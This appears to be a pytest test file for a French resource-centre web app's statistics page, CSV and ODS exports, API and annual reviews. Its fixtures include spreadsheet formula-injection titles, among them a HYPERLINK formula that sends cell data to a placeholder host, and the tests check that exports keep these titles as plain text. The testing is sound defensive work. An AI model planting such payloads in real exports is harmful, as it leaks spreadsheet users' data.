"""`/statistiques`, its exports and `/api/v1/statistiques`, on a small corpus written here
whose truth is counted from the files themselves; exports read back with `csv` and odfpy
(not the library that writes them); titles that a spreadsheet would take for formulas."""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from pathlib import Path

import pytest
import yaml
from odf import table as odf_table
from odf import text as odf_text
from odf.namespaces import TABLENS
from odf.opendocument import load as load_ods
from webapp_support import elements
from webapp_support import text as raw_text

from indexer.build import Indexer

# Titles that spreadsheets would run as formulas if written naively.
HOSTILE_TITLES = (
    '=HYPERLINK("http://exemple.invalid/?x="&A1;"clic")',
    "+SOMME(1;2)",
    "-2+3 ateliers",
    "@SUM(A1:A2)",
    "\tTabulation en tête",
)

CENTRE = """---
nom: {nom}
region: "{region}"
---
Centre de test.
"""


def sheet(title: str, date: str, piliers: list[str], **extra) -> str:
    lines = [
        "---",
        f"titre: {yaml.safe_dump(title, allow_unicode=True).strip().removesuffix('...').strip()}",
        "type: " + extra.pop("type", "fiche-pratique"),
        f"date: {date}",
        f"piliers: [{', '.join(piliers)}]",
        "resume: "
        + extra.pop(
            "resume",
            "Un résumé de fiche de test, assez long pour être lu "
            "dans une liste de résultats et dire de quoi il s'agit vraiment.",
        ),
    ]
    for key, value in extra.items():
        lines.append(f"{key}: {value}")
    lines += ["---", "## Contexte", "", "Texte de la fiche.", ""]
    return "\n".join(lines)


FILES = {
    "centre-nord/_centre.md": CENTRE.format(nom="Centre Nord (test)", region="32"),
    "centre-sud/_centre.md": CENTRE.format(nom="=Centre Sud (test)", region="76"),
    "centre-nord/double-pilier.md": sheet(
        "Une fiche sur deux piliers",
        "2023-05-04",
        ["cadre-de-vie", "cohesion-sociale"],
        thematiques="[education, sante]",
        territoire='{region: "32", departement: "59"}',
    ),
    "centre-nord/jardins.md": sheet(
        "Des jardins partagés",
        "2023-09-01",
        ["cadre-de-vie"],
        thematiques="[sante]",
        territoire='{region: "32", departement: "62"}',
    ),
    "centre-nord/emploi.md": sheet(
        "Clauses d'insertion", "2024-02-10", ["developpement-economique"], type="etude"
    ),
    "centre-nord/brouillon.md": sheet(
        "Un brouillon non compté", "2024-03-01", ["cadre-de-vie"], statut="brouillon"
    ),
    "centre-nord/quartiers.md": sheet(
        "Deux villes de la métropole",
        "2024-04-02",
        ["cohesion-sociale"],
        territoire='{departement: "59", communes: ["59350", "59512"], epci: ["200093201"]}',
    ),
    "centre-sud/triple.md": sheet(
        "Trois piliers d'un coup",
        "2024-06-30",
        ["cadre-de-vie", "cohesion-sociale", "developpement-economique"],
        thematiques="[education]",
        territoire='{departement: "31"}',
    ),
}
for number, title in enumerate(HOSTILE_TITLES):
    FILES[f"centre-sud/piege-{number}.md"] = sheet(
        title, f"202{number % 3 + 2}-01-15", ["cohesion-sociale"]
    )


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    root = tmp_path_factory.mktemp("stats")
    content = root / "content"
    for relative, data in FILES.items():
        path = content / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(data, encoding="utf-8")
    report = Indexer(content, root / "index").rebuild()
    assert report.ok, report.problems
    return content, root / "index"


@pytest.fixture(scope="module")
def client(site):
    from webapp import create_app

    content, index = site
    app = create_app(
        {
            "TESTING": True,
            "KB_CONTENT": str(content),
            "KB_INDEX": str(index),
            "KB_SITE_URL": "https://ressources.example.org",
        }
    )
    return app.test_client()


def text(html: str) -> str:
    """Visible text, no-break spaces as plain ones."""
    return raw_text(html).replace("\u00a0", " ").replace("\u202f", " ")


def truth(content: Path) -> list[dict]:
    """Published sheets as their files say, read with PyYAML only."""
    found = []
    for path in sorted(content.glob("*/*.md")):
        if path.name == "_centre.md":
            continue
        data = yaml.safe_load(path.read_text(encoding="utf-8").split("---\n")[1])
        if data.get("statut") == "brouillon":
            continue
        data["centre"] = path.parent.name
        found.append(data)
    return found


def test_page_counts_distinct_resources_like_the_files(client, site):
    facts = truth(site[0])
    response = client.get("/statistiques")
    assert response.status_code == 200
    page = text(response.get_data(as_text=True))
    assert f"{len(facts)} ressources distinctes" in page
    pillars = Counter(p for f in facts for p in set(f["piliers"]))
    table = _table_counts(response.get_data(as_text=True), "tableau-piliers")
    assert table == {
        "Cadre de vie et renouvellement urbain": pillars["cadre-de-vie"],
        "Cohésion sociale": pillars["cohesion-sociale"],
        "Développement de l'activité économique et de l'emploi": pillars[
            "developpement-economique"
        ],
    }
    # Said in words: a resource counts once in the total, once under each of its pillars.
    assert "comptée une seule fois dans le total" in page
    assert f"Somme des lignes : {sum(pillars.values())} pour {len(facts)}" in page
    years = Counter(str(f["date"].year) for f in facts)
    assert _table_counts(response.get_data(as_text=True), "tableau-annees") == dict(years)


def _table_counts(html: str, table_id: str) -> dict[str, int]:
    """Row header -> count, from one table of the page."""
    start = html.index(f'id="{table_id}"')
    body = html[start : html.index("</table>", start)]
    rows = re.findall(r'<th scope="row">(.*?)</th>\s*<td class="number">([^<]*)</td>', body)
    return {text(header): int(count.replace("\u202f", "")) for header, count in rows}


def test_filters_and_query_narrow_the_statistics(client, site):
    facts = truth(site[0])
    response = client.get("/statistiques?centre=centre-nord&piliers=cadre-de-vie")
    expected = [f for f in facts if f["centre"] == "centre-nord" and "cadre-de-vie" in f["piliers"]]
    assert f"{len(expected)} ressources distinctes" in text(response.get_data(as_text=True))
    data = client.get("/api/v1/statistiques?centre=centre-nord&piliers=cadre-de-vie").get_json()
    assert data["total"] == len(expected)
    search = client.get("/api/v1/recherche?q=jardins").get_json()
    assert client.get("/api/v1/statistiques?q=jardins").get_json()["total"] == search["total"]


def test_active_filter_chips_keep_the_year_basis(client):
    html = client.get("/statistiques?piliers=cadre-de-vie&annees=entree").get_data(as_text=True)
    chips = [a["href"] for a in elements(html, "a", class_="chip")]
    assert chips == ["/statistiques?annees=entree"]


def test_year_basis_entry_into_the_base(client, site):
    facts = truth(site[0])
    data = client.get("/api/v1/statistiques?annees=entree").get_json()
    assert data["annees_selon"] == "entree"
    entries = data["repartitions"]["entree"]["valeurs"]
    assert sum(v["nombre"] for v in entries) == len(facts)  # all entered this year
    columns = data["tendances"]["piliers"]["colonnes"]
    assert [c["valeur"] for c in columns] == [v["valeur"] for v in entries]


@pytest.mark.parametrize(
    "query",
    ["annees=demain", "annees=fiche&annees=entree", "piliers=inconnu", "annee=2030-2020", "x=1"],
)
def test_bad_parameters_are_a_french_400(client, query):
    for path in ("/statistiques", "/statistiques.csv", "/statistiques.ods"):
        response = client.get(f"{path}?{query}")
        assert response.status_code == 400, (path, query)
        assert "Requête invalide" in response.get_data(as_text=True)
    api = client.get(f"/api/v1/statistiques?{query}")
    assert api.status_code == 400
    assert api.get_json()["erreur"]["messages"]


def test_csv_export_reads_back(client, site):
    facts = truth(site[0])
    response = client.get("/statistiques.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets then read UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Répartition", "Code", "Libellé", "Ressources", "Part du total (%)"]
    centres = {r[1]: int(r[3]) for r in rows[1:] if r[0] == "Centres de ressources"}
    assert centres == dict(Counter(f["centre"] for f in facts))
    labels = {r[2] for r in rows[1:] if r[0] == "Centres de ressources"}
    assert "'=Centre Sud (test)" in labels  # a formula-looking name stays text

    trends = client.get("/statistiques.csv?tableau=tendances").get_data().decode("utf-8-sig")
    trend_rows = list(csv.reader(io.StringIO(trends), delimiter=";"))
    pillar_year = Counter((p, str(f["date"].year)) for f in facts for p in set(f["piliers"]))
    for row in trend_rows[1:]:
        if row[0] == "Piliers":
            assert int(row[4]) == pillar_year[row[1], row[3]]

    quality = client.get("/statistiques.csv?tableau=qualite").get_data().decode("utf-8-sig")
    quality_rows = list(csv.reader(io.StringIO(quality), delimiter=";"))
    by_centre = {r[0]: r for r in quality_rows[1:]}
    north = [f for f in facts if f["centre"] == "centre-nord"]
    assert int(by_centre["centre-nord"][2]) == len(north)
    assert int(by_centre["centre-nord"][3]) == sum(1 for f in north if f.get("territoire"))


def ods_sheets(data: bytes) -> dict[str, list[list[tuple[str, str]]]]:
    """Sheet name -> rows of (value type, text) read with odfpy; also checks that no cell
    holds a formula."""
    document = load_ods(io.BytesIO(data))
    sheets = {}
    for table in document.spreadsheet.getElementsByType(odf_table.Table):
        rows = []
        for row in table.getElementsByType(odf_table.TableRow):
            cells = []
            for cell in row.getElementsByType(odf_table.TableCell):
                assert cell.attributes.get((TABLENS, "formula")) is None
                kind = cell.getAttribute("valuetype") or ""
                value = "\n".join(str(p) for p in cell.getElementsByType(odf_text.P))
                cells.append((kind, value))
            rows.append(cells)
        sheets[table.getAttribute("name")] = rows
    return sheets


def test_ods_export_reads_back(client, site):
    facts = truth(site[0])
    response = client.get("/statistiques.ods?centre=centre-sud")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.oasis.opendocument.spreadsheet"
    sheets = ods_sheets(response.get_data())
    assert list(sheets)[0] == "Synthèse"
    summary = dict((row[0][1], row[1]) for row in sheets["Synthèse"][1:])
    south = [f for f in facts if f["centre"] == "centre-sud"]
    assert summary["Ressources distinctes"] == ("float", str(len(south)))
    assert "Centre : =Centre Sud (test)" in summary["Sélection"][1]
    pillars = {row[1][1]: int(row[2][1]) for row in sheets["Piliers"][1:]}
    assert pillars == {
        "Cohésion sociale": sum("cohesion-sociale" in f["piliers"] for f in south),
        "Cadre de vie et renouvellement urbain": sum("cadre-de-vie" in f["piliers"] for f in south),
        "Développement de l'activité économique et de l'emploi": sum(
            "developpement-economique" in f["piliers"] for f in south
        ),
    }
    centre_row = sheets["Centres de ressources"][1]
    assert centre_row[1] == ("string", "=Centre Sud (test)")  # text, shown as typed


def test_openapi_describes_the_statistics(client):
    description = client.get("/api/v1/openapi.json").get_json()
    operation = description["paths"]["/statistiques"]["get"]
    names = {p["name"] for p in operation["parameters"]}
    assert {"q", "piliers", "annee", "annees"} <= names
    assert "Statistiques" in description["components"]["schemas"]


def test_a_search_links_to_its_statistics(client):
    html = client.get("/recherche?q=jardins&piliers=cadre-de-vie&tri=date").get_data(as_text=True)
    assert "/statistiques?q=jardins&piliers=cadre-de-vie" in [
        a["href"].replace("&amp;", "&") for a in elements(html, "a")
    ]


# --- the annual review of a centre ----------------------------------------------------------


def test_review_lists_the_year_productions_of_the_centre(client, site):
    facts = [f for f in truth(site[0]) if f["centre"] == "centre-sud" and f["date"].year == 2024]
    assert len(facts) >= 2
    response = client.get("/centres/centre-sud/bilan/2024")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    page = text(html)
    assert f"{len(facts)} productions en 2024" in page
    titles = [a for a in elements(html, "a") if a.get("href", "").startswith("/ressources/")]
    assert len(titles) == len(facts)
    for fact in facts:
        assert " ".join(fact["titre"].split()) in page
    pillars = Counter(p for f in facts for p in set(f["piliers"]))
    assert f"Cohésion sociale {pillars['cohesion-sociale']}" in page
    assert elements(html, "link", rel="stylesheet", media="print")


def test_review_as_ods_keeps_hostile_titles_as_text(client, site):
    facts = [f for f in truth(site[0]) if f["centre"] == "centre-sud"]
    expected_titles = sorted(f["titre"] for f in facts if f["date"].year == 2022)
    assert any(t.startswith(("=", "+", "-", "@", "\t")) for t in expected_titles)
    response = client.get("/centres/centre-sud/bilan/2022.ods")
    assert response.status_code == 200
    assert 'filename="bilan-centre-sud-2022.ods"' in response.headers["Content-Disposition"]
    sheets = ods_sheets(response.get_data())
    productions = sheets["Productions"]
    assert [value for _, value in productions[0]] == [
        "Date",
        "Titre",
        "Type",
        "Piliers",
        "Territoire",
        "Adresse",
    ]
    titles = sorted(row[1][1] for row in productions[1:])
    # odfpy joins text:s and text:tab back: compare without the spacing of the tab title.
    assert [t.strip() for t in titles] == [t.strip() for t in expected_titles]
    assert all(row[1][0] == "string" for row in productions[1:])
    summary = dict((row[0][1], row[1]) for row in sheets["Synthèse"][1:])
    assert summary["Ressources distinctes"] == ("float", str(len(expected_titles)))


def test_review_by_year_of_entry(client, site):
    facts = [f for f in truth(site[0]) if f["centre"] == "centre-nord"]
    this_year = client.get("/api/v1/statistiques?annees=entree").get_json()
    year = this_year["repartitions"]["entree"]["valeurs"][0]["valeur"]
    html = client.get(f"/centres/centre-nord/bilan/{year}?annees=entree").get_data(as_text=True)
    assert f"{len(facts)} productions en {year}" in text(html)


@pytest.mark.parametrize(
    "path, status",
    [
        ("/centres/centre-inconnu/bilan/2024", 404),
        ("/centres/centre-sud/bilan/24", 404),
        ("/centres/centre-sud/bilan/0999", 404),
        ("/centres/centre-sud/bilan/2024.xls", 404),
        ("/centres/centre-sud/bilan/2024?page=2", 400),
        ("/centres/centre-sud/bilan/2024?annees=demain", 400),
        ("/centres/centre-sud/bilan/2024.ods?annees=x", 400),
    ],
)
def test_review_refuses_what_it_cannot_show(client, path, status):
    response = client.get(path)
    assert response.status_code == status
    assert "<html" in response.get_data(as_text=True)


def test_an_empty_year_is_a_review_with_nothing(client):
    html = client.get("/centres/centre-sud/bilan/1990").get_data(as_text=True)
    assert "Aucune production en 1990" in text(html)


def test_value_links_lead_to_exactly_the_counted_resources(client):
    """Following a row's link gives as many resources as the row says."""
    for start in ("/statistiques", "/statistiques?piliers=cadre-de-vie,cohesion-sociale"):
        html = client.get(start).get_data(as_text=True)
        table = html[html.index('id="tableau-piliers"') :]
        table = table[: table.index("</table>")]
        rows = re.findall(r'<td class="number">([^<]*)</td>(.*?)</tr>', table, re.S)
        linked = 0
        for count, rest in rows:
            link = re.search(r'<a href="(/recherche\?[^"]*)">ressources', rest)
            if link is None:
                continue
            linked += 1
            api = link.group(1).replace("&amp;", "&").replace("/recherche", "/api/v1/recherche")
            assert client.get(api).get_json()["total"] == int(count.replace("\u202f", ""))
        assert linked >= 2
    # A pillar outside the filter: its row (both pillars at once) has no search of its own.
    html = client.get("/statistiques?piliers=developpement-economique").get_data(as_text=True)
    table = html[html.index('id="tableau-piliers"') :]
    table = table[: table.index("</table>")]
    assert len(re.findall(r'href="/recherche', table)) == 1


def test_the_department_map_shows_the_statistics_counts(client, site):
    from lxml import etree

    facts = truth(site[0])
    expected = Counter(
        f["territoire"]["departement"]
        for f in facts
        if (f.get("territoire") or {}).get("departement")
    )
    tree = etree.HTML(client.get("/statistiques").get_data(as_text=True))
    rows = tree.xpath('//table[@id="carte-statistiques-tableau"]/tbody/tr')
    shown = {r.xpath("string(td[1])"): int(r.xpath("string(td[2])").split()[0]) for r in rows}
    assert shown == dict(expected)
    labels = {a.get("href"): a.get("aria-label") for a in tree.xpath("//svg//a")}
    assert labels["/statistiques?departement=59"] == f"Nord (59) : {expected['59']} ressources"
    assert labels["/statistiques?departement=62"] == "Pas-de-Calais (62) : 1 ressource"
    assert labels["/statistiques?departement=75"] == "Paris (75) : 0 ressource"
    # A narrowed page maps the narrowed counts and links within the narrowing.
    narrowed = etree.HTML(client.get("/statistiques?region=32").get_data(as_text=True))
    rows = narrowed.xpath('//table[@id="carte-statistiques-tableau"]/tbody/tr')
    assert [r.xpath("string(td[1])") for r in rows] == ["59", "62"]
    hrefs = {a.get("href") for a in narrowed.xpath("//svg//a")}
    assert "/statistiques?region=32&departement=31" in hrefs


def test_communes_and_epci_are_counted_and_named(client, site):
    facts = truth(site[0])
    communes = Counter(c for f in facts for c in (f.get("territoire") or {}).get("communes", ()))
    html = client.get("/statistiques").get_data(as_text=True)
    assert _table_counts(html, "tableau-commune") == {
        "Lille (59)": communes["59350"],
        "Roubaix (59)": communes["59512"],
        "Sans commune": len(facts) - 1,
    }
    assert _table_counts(html, "tableau-epci")["Métropole Européenne de Lille"] == 1
    data = client.get("/api/v1/statistiques").get_json()
    assert {v["valeur"]: v["nombre"] for v in data["repartitions"]["commune"]["valeurs"]} == {
        "59350": 1,
        "59512": 1,
    }
    # The centre's annual review names them too.
    review = text(client.get("/centres/centre-nord/bilan/2024").get_data(as_text=True))
    assert "Communes" in review and "Lille (59)" in review
    assert "Deux villes de la métropole" in review
